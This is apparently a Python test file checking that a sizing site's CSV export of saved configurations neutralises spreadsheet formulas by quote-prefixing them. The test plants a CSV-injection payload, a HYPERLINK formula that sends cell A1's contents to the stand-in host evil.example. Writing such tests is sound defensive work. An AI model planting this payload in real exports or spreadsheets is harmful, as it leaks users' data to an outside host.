"""The saved configuration's CSV export neutralises spreadsheet formulas: the saved
query is user input."""

from __future__ import annotations

import csv
import io

from sizing_site.reports.models import SavedConfiguration
from tests.reports.base import ReportsTestCase


class CsvExport(ReportsTestCase):
    def test_formula_cells_are_quoted_and_numbers_are_not(self) -> None:
        hostile = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
        query = {**self.saved.query, "name": hostile, "note": "@SUM(A1)"}
        SavedConfiguration.all_tenants.filter(pk=self.saved.pk).update(query=query)
        self.client.force_login(self.bob)
        response = self.client.get(self.url("export-csv", "org-a", self.saved.code))
        rows = dict(csv.reader(io.StringIO(response.content.decode())))
        assert rows["input.name"] == "'" + hostile
        assert rows["input.note"] == "'@SUM(A1)"
        assert rows["input.ctx"] == "32768"
        assert rows["total_bytes"] == str(self.saved.snapshot["result"]["total_bytes"])
